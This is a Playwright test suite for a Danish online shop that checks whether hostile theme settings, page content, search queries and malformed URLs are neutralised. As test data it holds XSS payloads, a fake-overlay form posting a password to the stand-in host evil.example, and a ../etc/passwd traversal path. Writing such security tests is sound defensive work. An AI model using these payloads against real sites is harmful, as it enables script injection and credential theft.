import type { Page } from '@playwright/test'
import { at, desk, expect, expectComplaint, test } from './square.ts'
import { behindTheCounter, changeSettings } from './keeper.ts'

test.use({ viewport: desk })

const shop = 'keramik.localhost'

test('a hostile theme is none, and the shop wears what it can', async ({ page }) => {
  const evil = await watchForEvil(page)
  const { theme } = await settings()
  await dress(hostileTheme)
  try {
    await page.goto(at(shop))
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'default')
    expect(await page.locator('head script:not([src]), head style').allInnerTexts()).not.toContain(
      'evil',
    )
    expect(evil()).toEqual([])
  } finally {
    await dress(theme)
  }
})

const breakOut =
  '</style></script><script>alert(1)</script><img src=//evil.example onerror=alert(1)>'
const hostileTheme = {
  type: breakOut,
  colors: {
    primary: `red}body{display:none}${breakOut}`,
    secondary: 'url(//evil.example/a)',
    complementary: { dark: 'expression(alert(1))' },
    background: [breakOut],
  },
  typography: { headingFont: `x;src:url(//evil.example/font)${breakOut}`, bodyFont: {} },
  hero: { defaultImage: 'javascript:alert(1)', pattern: breakOut },
  components: { productCard: { style: breakOut }, navigation: { style: 7, position: breakOut } },
  favicon: `data:text/html,${breakOut}`,
}

test('what a page’s writer puts in front of the shop stays in its place', async ({ page }) => {
  const evil = await watchForEvil(page)
  const { page_content } = await settings()
  const about = { title: 'Om <script>alert(1)</script>', content: overlay }
  await changeSettings(shop, 'page_content', { about })
  await page.goto(at(shop, '/about'))
  await changeSettings(shop, 'page_content', page_content)
  const text = page.locator('.rich-text')
  await expect(text).toContainText('Skærm')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Om <script>alert(1)</script>')
  const outside = await text.evaluate((place) => {
    const box = place.getBoundingClientRect()
    return [...place.querySelectorAll('*')].filter((one) => {
      const { left, right, position } = { ...sides(one), position: getComputedStyle(one).position }
      return position !== 'static' || left < box.left - 1 || right > box.right + 1
    }).length
    function sides(one: Element) {
      const { left, right } = one.getBoundingClientRect()
      return { left, right }
    }
  })
  expect(outside).toBe(0)
  expect(await text.locator('.cookie-banner, .sheet, .card-more, .fixed, .button').count()).toBe(0)
  await page.getByRole('button', { name: 'Kurv' }).click()
  await expect(page.getByRole('dialog')).toBeVisible()
  expect(evil()).toEqual([])
})

const overlay = `
  <div style="position:fixed;inset:0;z-index:99999;background:url(//evil.example/b);margin:-900px"
    class="fixed inset-0 z-30 cookie-banner sheet card-more pending">Skærm</div>
  <p class="button button-primary" onclick="alert(1)" style="transform:scale(90);width:9000px">Køb</p>
  <a href="javascript:alert(1)">a</a><svg onload="alert(1)"></svg><iframe src="//evil.example"></iframe>
  <form action="//evil.example"><input name="password"></form><style>*{display:none}</style>`

test('a search for what would be a script finds nothing and runs nothing', async ({ page }) => {
  const evil = await watchForEvil(page)
  const sought = '"><img src=//evil.example onerror=alert(1)><script>alert(1)</script>'
  await page.goto(at('localhost', `/?q=${encodeURIComponent(sought)}`))
  await expect(page.getByPlaceholder('Søg efter produkter...')).toHaveValue(sought)
  await expect(page.getByText('Ingen produkter matcher din søgning')).toBeVisible()
  expect(evil()).toEqual([])

  // A novel that is put into the search is looked for by its beginning.
  await page.getByPlaceholder('Søg efter produkter...').selectText()
  await page.keyboard.insertText('æ'.repeat(9_000))
  await page.keyboard.press('Enter')
  await expect(page).toHaveURL(/\?q=(%C3%A6){100}$/)
  await expect(page.getByText('Ingen produkter matcher din søgning')).toBeVisible()
})

test('addresses that are none are refused, and the shop goes on', async ({ page, complaints }) => {
  const evil = await watchForEvil(page)
  const answers: [string, number][] = []
  for (const [path] of refused) {
    const answer = await page.goto(at('localhost', path))
    answers.push([path, answer?.status() ?? 0])
  }
  expect(answers).toEqual(refused)
  await page.goto(at('localhost'))
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Taskehuset')
  expectComplaint(complaints, /40[04]/)
  expect(evil()).toEqual([])
})

const refused: [string, number][] = [
  [`/?q=${'a'.repeat(10_000)}`, 400],
  ['/%E0%A4%A', 400],
  ['/products/%zz', 400],
  ['/products/pyramid-bag', 404],
  ['/category/kopper', 404],
  ['/products/..%2f..%2fetc%2fpasswd', 400],
  ['/products/%3Cscript%3Ealert(1)%3C', 404],
]

/** What should never be: a dialog, a request that goes elsewhere. */
async function watchForEvil(page: Page): Promise<() => string[]> {
  const seen: string[] = []
  await page.exposeFunction('alert', () => seen.push('alert'))
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => seen.push(dialog.message())))
  page.on('request', (request) => {
    if (new URL(request.url()).host === 'evil.example') seen.push(request.url())
  })
  return () => seen
}

type Settings = { theme: object; page_content: object }

async function settings(): Promise<Settings> {
  const [kept] = await behindTheCounter<Settings>(
    `select t.theme, t.page_content from store_settings t
     join stores s on s.id = t.store_id where s.domain = $1`,
    [shop],
  )
  if (!kept) throw new Error('the shop has no settings')
  return kept
}

async function dress(theme: object): Promise<void> {
  await behindTheCounter(
    `update store_settings t set theme = $1::jsonb from stores s
     where s.id = t.store_id and s.domain = $2`,
    [JSON.stringify(theme), shop],
  )
}

test('no text becomes markup on a page but what the house dressed for it', async ({
  page,
  complaints,
}) => {
  await page.goto(at('localhost'))
  const pasted = page.evaluate(() => {
    document.body.innerHTML = '<p>Hej</p>'
  })
  await expect(pasted).rejects.toThrow('TrustedHTML')
  expectComplaint(complaints, /TrustedHTML/)
})
